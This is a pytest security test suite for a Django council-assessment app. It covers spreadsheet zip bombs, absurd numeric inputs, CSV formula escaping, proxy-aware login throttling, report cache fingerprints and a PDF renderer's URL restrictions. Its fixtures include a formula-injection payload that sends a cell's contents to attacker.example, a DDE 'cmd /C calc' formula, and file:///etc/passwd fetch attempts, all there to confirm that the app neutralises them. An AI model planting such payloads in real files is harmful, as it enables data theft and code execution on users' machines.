"""Hostile files, numbers and networks: each gets a clear message (or a harmless result) and changes nothing.

Timings are ratios against a normal request in the same run, never wall-clock limits.
"""

import csv
import io
import os
import subprocess
import sys
import time
import tracemalloc
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, connection
from django.test import Client, override_settings
from django.urls import reverse
from openpyxl import load_workbook

from actionplans.models import ActionPlan, Kpi, KpiValue, PlanLine
from assessments.models import Score
from assessments.services import Door, assessment_reopen, assessment_submit, score_write
from assessments.spreadsheets import SpreadsheetError, read_table
from common.sheets import csv_escape, csv_unescape
from councils.models import Membership
from reports.pdf import StaticOnlyFetcher, report_fingerprint

from .conftest import PASSWORD, ROOT, make_user

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&B2,"Click for details")'


def snapshot(assessment):
    return list(Score.objects.filter(assessment=assessment).order_by("objective__number").values_list("level", "comment", "version"))


def sheet_xml(rows, cells, value="1"):
    """A worksheet's XML with no r= attributes, as the bomb was written."""
    cell = f"<c><v>{value}</v></c>" if value.isdigit() else f'<c t="inlineStr"><is><t>{value}</t></is></c>'
    row = "<row>" + cell * cells + "</row>"
    return '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + row * rows + "</sheetData></worksheet>"


def xlsx_from_sheet(sheet):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Scores" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return out.getvalue()


def timed(call):
    started = time.perf_counter()
    result = call()
    return result, time.perf_counter() - started


def upload(client, assessment, content, name):
    return client.post(reverse("assessments:import", args=[assessment.pk]), {"file": SimpleUploadedFile(name, content)})


# Spreadsheet bombs ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("rows", "cells"), [(1999, 500), (100_000, 10)], ids=["wide", "long"])
def test_it_refuses_a_spreadsheet_that_unzips_to_a_million_cells_quickly(client, officer, blank_draft, rows, cells):
    bomb = xlsx_from_sheet(sheet_xml(rows, cells))
    normal = xlsx_from_sheet(sheet_xml(1, 2, "Number") + "")  # a tiny sheet, read fully
    assert len(bomb) < 200_000
    client.force_login(officer)
    before = snapshot(blank_draft)
    _, baseline = timed(lambda: upload(client, blank_draft, normal, "normal.xlsx"))
    tracemalloc.start()
    response, took = timed(lambda: upload(client, blank_draft, bomb, "bomb.xlsx"))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    page = response.content.decode()
    assert response.status_code == 200 and any(m in page for m in ("more than", "columns; a scores sheet has at most", "unzips to")), page[-2000:]
    assert took < max(20 * baseline, 1.0), (took, baseline)  # refused after a bounded read, not after reading it all
    assert peak < 8 * 1024 * 1024, peak  # the sheet unzips to about 15 MB; it is never held in memory
    assert snapshot(blank_draft) == before


def test_a_workbook_that_unzips_to_gigabytes_is_refused_before_parsing():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (80 * 1024 * 1024))
    with pytest.raises(SpreadsheetError, match="unzips to"):
        read_table("big.xlsx", out.getvalue())


def test_a_nul_anywhere_in_a_csv_is_refused(client, officer, blank_draft):
    content = b"Number,Level,Comment\n" + b"1,3,fine\n" * 600 + b"2,3,bad\x00byte\n"
    assert content.index(b"\x00") > 4096
    client.force_login(officer)
    page = upload(client, blank_draft, content, "scores.csv").content.decode()
    assert "neither a spreadsheet nor a text CSV file" in page
    assert client.post(reverse("assessments:import_confirm", args=[blank_draft.pk])).status_code == 302
    assert all(level is None for level, _, _ in snapshot(blank_draft))


def test_a_refused_upload_clears_the_earlier_preview(client, officer, blank_draft):
    client.force_login(officer)
    upload(client, blank_draft, b"Number,Level\n1,3\n", "good.csv")
    upload(client, blank_draft, b"", "empty.csv")
    client.post(reverse("assessments:import_confirm", args=[blank_draft.pk]))
    assert Score.objects.get(assessment=blank_draft, objective__number=1).level is None


# Absurd numbers ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("url_name", "who"), [("actionplans:list", "officer"), ("assessments:list", "councillor")])
def test_absurd_years_in_filters_answer_fast_with_an_empty_list(client, request, url_name, who, last_year, plan):
    client.force_login(request.getfixturevalue(who))
    url = reverse(url_name)
    _, normal = timed(lambda: client.get(url, {"year": "2024"}))
    for absurd in ("-1e999999", "-1e399999", "1e999999", "²", "٢٠٢٤", "9" * 400):
        response, took = timed(lambda absurd=absurd: client.get(url, {"year": absurd}))
        assert response.status_code == 200
        assert took < max(10 * normal, 1.0), (absurd, took, normal)
        assert "between 2000 and 2100" in response.content.decode()


@pytest.mark.parametrize("url_name", ["assessments:year_on_year", "ratings:consolidation"])
def test_odd_digits_in_a_section_parameter_are_ignored(client, head, draft, url_name):
    client.force_login(head)
    for odd in ("²", "٣", "-1", "99999999999", "1e3"):
        assert client.get(reverse(url_name, args=[draft.pk]), {"section": odd}).status_code == 200


def test_a_plan_cannot_run_past_2100(client, head, nps2018):
    client.force_login(head)
    page = client.post(reverse("actionplans:new"), {"title": "Far", "framework": nps2018.pk, "start_year": 2100, "end_year": 2101}).content.decode()
    assert "between 2000 and 2100" in page and not ActionPlan.objects.exists()


# Formulas and control characters in exports -----------------------------------------------------------------


def test_csv_escaping_round_trips_every_text():
    for text in ("=1+2", "'=1+2", "''", "'x", "+44 20", "-", "@SUM(A1)", "\tTab", "plain", "", "baseline of '3'"):
        assert csv_unescape(csv_escape(text)) == text
    assert csv_escape("=1+2") == "'=1+2"


def all_exports(client, assessment, plan):
    yield "assessment", client.get(reverse("assessments:export", args=[assessment.pk])).content
    yield "history", client.get(reverse("assessments:history_export"), {"framework": "nps-2018"}).content
    yield "plan", client.get(reverse("actionplans:export", args=[plan.pk])).content
    yield "response sheet", client.get(reverse("ratings:response_sheet", args=[assessment.pk])).content


def test_no_export_holds_a_formula_or_breaks_on_control_characters(client, head, draft, plan):
    score = Score.objects.get(assessment=draft, objective__number=1)
    Score.objects.filter(pk=score.pk).update(comment=HOSTILE + " \x01\x07 bell")  # as if stored before the rule
    Score.objects.filter(assessment=draft, objective__number=2).update(comment="@SUM(1+1)*cmd|' /C calc'!A0")
    PlanLine.objects.filter(plan=plan).update(progress_notes=HOSTILE + "\x07")
    kpi = plan.kpis.first()
    KpiValue.objects.create(kpi=kpi, period_start=date(2024, 4, 1), actual="97.4", note=HOSTILE)
    Kpi.objects.filter(pk=kpi.pk).update(name=HOSTILE)
    client.force_login(head)
    for name, content in all_exports(client, draft, plan):
        book = load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
    csv_text = client.get(reverse("assessments:export", args=[draft.pk]), {"format": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_comment_that_starts_with_equals_survives_export_and_import(client, officer, head, draft, council_a, nps2018, fmt):
    client.force_login(officer)
    score = Score.objects.get(assessment=draft, objective__number=4)
    score_write(score_id=score.pk, version=score.version, user=officer, door=Door.AUTOSAVE, level=3, comment=HOSTILE + "\nand 'quoted' text, baseline of '3'")
    exported = client.get(reverse("assessments:export", args=[draft.pk]), {"format": fmt} if fmt == "csv" else {}).content
    Score.objects.filter(pk=score.pk).update(comment="", level=None)
    score.refresh_from_db()
    preview = upload(client, draft, exported, f"export.{fmt}")
    assert not preview.context["problems"], preview.context["problems"]
    client.post(reverse("assessments:import_confirm", args=[draft.pk]))
    score.refresh_from_db()
    assert score.comment == HOSTILE + "\nand 'quoted' text, baseline of '3'" and score.level == 3


def test_control_characters_in_plan_text_are_refused(client, officer, plan):
    client.force_login(officer)
    page = client.post(reverse("actionplans:consideration_new", args=[plan.pk]), {"description": "Approval\x07 to recruit", "owner": "", "status": "needed", "section": ""}).content.decode()
    assert "control character" in page
    assert not plan.considerations.filter(description__contains="recruit", description__startswith="Approval\x07").exists()


# Login throttling behind the proxy (README: BEHIND_PROXY=1, one trusted proxy) ---------------------------------


def sign_in(client_address, username, password):
    client = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=client_address)  # the proxy's address for everyone
    return client.post(reverse("login"), {"username": username, "password": password})


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_failures_from_one_client_never_lock_the_user_out_from_another(head):
    for _ in range(6):
        sign_in("203.0.113.7", "head", "wrong-password")
    assert sign_in("203.0.113.7", "head", PASSWORD).status_code == 429
    response = sign_in("198.51.100.20", "head", PASSWORD)
    assert response.status_code == 302, response.status_code


@override_settings(TRUSTED_PROXY_COUNT=1, LOGIN_ADDRESS_LIMIT=8)
def test_one_address_trying_many_usernames_is_stopped(db, head):
    for i in range(8):
        sign_in("203.0.113.9", f"guess-{i}", "wrong-password")
    assert sign_in("203.0.113.9", "head", PASSWORD).status_code == 429
    assert sign_in("198.51.100.21", "head", PASSWORD).status_code == 302


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_a_forged_forwarded_for_entry_is_not_trusted(head):
    """The client may prepend anything; only the entry the trusted proxy appended counts."""
    for i in range(6):
        sign_in(f"192.0.2.{i}, 203.0.113.50", "head", "wrong-password")
    assert sign_in("192.0.2.99, 203.0.113.50", "head", PASSWORD).status_code == 429


# Races, caches, settings -------------------------------------------------------------------------------------


def test_two_heads_starting_the_same_plan_get_a_message_not_a_500(client, head, nps2018, council_a, monkeypatch):
    from actionplans import services, views

    def raced(**kwargs):
        services.plan_create(**kwargs)  # the other head's request got there first
        raise IntegrityError("duplicate key value violates unique constraint")

    monkeypatch.setattr(views, "plan_create", raced)
    client.force_login(head)
    response = client.post(reverse("actionplans:new"), {"title": "Plan", "framework": nps2018.pk, "start_year": 2025, "end_year": 2027})
    page = response.content.decode()
    assert response.status_code == 200 and "This plan already exists" in page
    assert f'href="/plans/{ActionPlan.objects.get().pk}/"' in page


def test_the_cached_report_follows_a_change_to_the_previous_year(head, officer, last_year, nps2018, council_a):
    from .conftest import submitted_assessment

    this_year = submitted_assessment(council_a, nps2018, 2024, head)
    before = report_fingerprint(this_year.pk)
    assert report_fingerprint(this_year.pk) == before
    assessment_reopen(assessment_id=last_year.pk, user=head, reason="correction")
    score = last_year.scores.get(objective__number=7)
    score_write(score_id=score.pk, version=score.version, user=officer, door=Door.AUTOSAVE, level=1)
    assessment_submit(assessment_id=last_year.pk, user=head)
    changed = report_fingerprint(this_year.pk)
    assert changed != before
    council_a.name = "Alpha City Council"
    council_a.save()
    assert report_fingerprint(this_year.pk) != changed


def test_the_fingerprint_covers_every_table_the_report_reads(last_year, head):
    """Derived from the report itself: every table either edition's queries read has its state in the fingerprint."""
    import re

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.pdf import FINGERPRINT_TABLES, _stamps_sql, report_html

    read = set()
    for edition in ("full", "councillor"):
        with CaptureQueriesContext(connection) as captured:
            report_html(last_year, edition)
        for query in captured.captured_queries:
            read |= set(re.findall(r'(?:FROM|JOIN) "(\w+)"', query["sql"]))
    assert read and read <= set(FINGERPRINT_TABLES), read - set(FINGERPRINT_TABLES)
    stamped = set(re.findall(r'(?:FROM|JOIN) "(\w+)"', _stamps_sql("default")[0]))
    touched_through_their_plan = {"actionplans_planline", "actionplans_linetarget", "actionplans_kpi", "actionplans_kpivalue", "actionplans_plangoal", "actionplans_planreview", "actionplans_deliveryconsideration"}
    assert read - touched_through_their_plan <= stamped, read - touched_through_their_plan - stamped


def test_the_kept_report_follows_the_value_code_answers_and_who_signed_off(last_year, head):
    from assessments.models import KeyAreaFlags

    before = report_fingerprint(last_year.pk)
    flags = KeyAreaFlags.objects.create(assessment=last_year, section=last_year.framework.sections.first(), matters_most=True)
    answered = report_fingerprint(last_year.pk)
    assert answered != before
    KeyAreaFlags.objects.filter(pk=flags.pk).update(support_needed=True)
    assert report_fingerprint(last_year.pk) != answered
    signed = report_fingerprint(last_year.pk)
    head.first_name = "Renamed"
    head.save()
    assert last_year.submitted_by_id == head.pk and report_fingerprint(last_year.pk) != signed


def test_the_report_fingerprint_is_one_query(last_year, django_assert_num_queries):
    with django_assert_num_queries(1):
        report_fingerprint(last_year.pk)


def test_the_pdf_renderer_reads_only_our_static_files_whatever_the_case_of_the_scheme():
    fetcher = StaticOnlyFetcher()
    for url in ("FILE:///etc/passwd", "File:///etc/passwd", " file:///etc/passwd", "fIlE://localhost/etc/passwd", "HTTP://example.org/x.css"):
        with pytest.raises(ValueError, match="only use the app's own static files"):
            fetcher.fetch(url)
    with pytest.raises(ValueError, match="only use the app's own static files"):
        fetcher.fetch((ROOT / "db.sqlite3").as_uri())
    with pytest.raises(ValueError):
        fetcher.fetch("file:///etc/passwd")


def test_a_fullwidth_username_is_the_same_as_its_ascii_twin(client, head, draft):
    from ratings.forms import InviteForm

    form = InviteForm(
        {"first_name": "H", "last_name": "Twin", "email": "t@example.org", "username": "Ｈead", "password": "a-long-Passphrase-42", "role_label": "Commissioner", "objectives": [draft.framework.objectives.first().pk]},
        assessment=draft,
    )
    assert not form.is_valid() and "taken" in str(form.errors["username"])


@pytest.mark.slow
def test_seed_demo_refuses_to_run_with_debug_off():
    env = dict(os.environ, DEBUG="0", DJANGO_SETTINGS_MODULE="config.settings", SECRET_KEY="x" * 60, DATABASE_URL="sqlite:///:memory:")
    result = subprocess.run([sys.executable, "manage.py", "seed_demo"], cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode != 0 and "runs only with DEBUG=1" in result.stderr


@pytest.mark.slow
def test_production_refuses_the_console_mail_backend_unless_told():
    env = dict(os.environ, DEBUG="0", DJANGO_SETTINGS_MODULE="config.settings", SECRET_KEY="x" * 60, EMAIL_BACKEND="django.core.mail.backends.console.EmailBackend")
    result = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode != 0 and "EMAIL_ALLOW_CONSOLE" in result.stderr
    allowed = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, env=dict(env, EMAIL_ALLOW_CONSOLE="1"), capture_output=True, text=True)
    assert allowed.returncode == 0, allowed.stderr


def test_signed_in_pages_and_exports_are_never_cached_and_carry_a_permissions_policy(client, officer, draft):
    client.force_login(officer)
    for response in (client.get(reverse("assessments:detail", args=[draft.pk])), client.get(reverse("assessments:export", args=[draft.pk]))):
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
        assert "geolocation=()" in response["Permissions-Policy"]
        assert "Server" not in response


def test_a_session_lasts_a_working_day(settings):
    """Nine hours from signing in (tests/test_mfa.py signs out after it); the session record outlives it, to say why."""
    assert settings.SIGN_IN_SECONDS == 9 * 3600 and settings.SESSION_COOKIE_AGE > settings.SIGN_IN_SECONDS


@pytest.mark.skipif(connection.vendor != "sqlite", reason="SQLite's locking; CI runs the same load test on PostgreSQL")
@pytest.mark.slow
def test_concurrent_autosaves_on_sqlite_give_one_winner_and_409s_never_a_500(tmp_path):
    """8 officers autosaving the same objectives through gunicorn on a SQLite file: bench/load.py checks there is no
    5xx and that the stored state equals the last acknowledged write of every objective."""
    env = dict(os.environ, DATABASE_URL=f"sqlite:///{tmp_path / 'load.sqlite3'}", DJANGO_SETTINGS_MODULE="config.settings")
    for key in ("SECRET_KEY", "EMAIL_BACKEND"):
        env.pop(key, None)
    result = subprocess.run([sys.executable, "-W", "ignore", "bench/load.py", "--seconds", "4", "--officers", "8"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "'stale'" in result.stdout and "http 5" not in result.stdout


def test_an_existing_fullwidth_account_blocks_its_ascii_twin(council_a, draft):
    from ratings.forms import InviteForm

    make_user("Ｒita", council_a, Membership.Role.RATER)
    form = InviteForm(
        {"first_name": "R", "last_name": "Twin", "email": "r@example.org", "username": "rita", "password": "a-long-Passphrase-42", "role_label": "Commissioner", "objectives": [draft.framework.objectives.first().pk]},
        assessment=draft,
    )
    assert not form.is_valid() and "taken" in str(form.errors["username"])
